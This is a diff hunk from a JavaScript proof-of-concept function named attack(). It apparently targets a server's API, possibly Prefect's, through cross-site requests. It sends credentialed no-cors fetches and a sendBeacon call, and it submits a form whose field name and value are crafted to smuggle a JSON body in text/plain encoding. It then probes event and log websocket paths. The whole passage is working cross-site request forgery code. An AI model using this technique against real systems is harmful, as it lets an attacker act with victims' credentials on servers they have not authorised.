@@ -54,10 +54,9 @@ async function attack() {
   results.untyped = await told(() => fetch(run, {method: "POST", mode: "no-cors", credentials, body: untyped()}));
   results.text = await told(() => fetch(run, {method: "POST", mode: "no-cors", credentials, body}));
   results.beacon = navigator.sendBeacon(run, untyped());
-  const form = document.getElementById("form"), cut = body.indexOf(":") + 1;
+  const form = document.getElementById("form"), [field] = form.elements;
   form.action = run;
-  form.elements.field.name = body.slice(0, cut) + '"';  // text/plain: name=value
-  form.elements.field.value = '"' + body.slice(cut);
+  [field.name, field.value] = [body.slice(0, -1) + ', "x": "', '"}'];  // sent as name=value
   form.submit();
   for (const [path, protocols] of [["/events/out", []], ["/events/out", ["prefect"]], ["/events/in", []],
                                    ["/logs/out", ["prefect"]]])
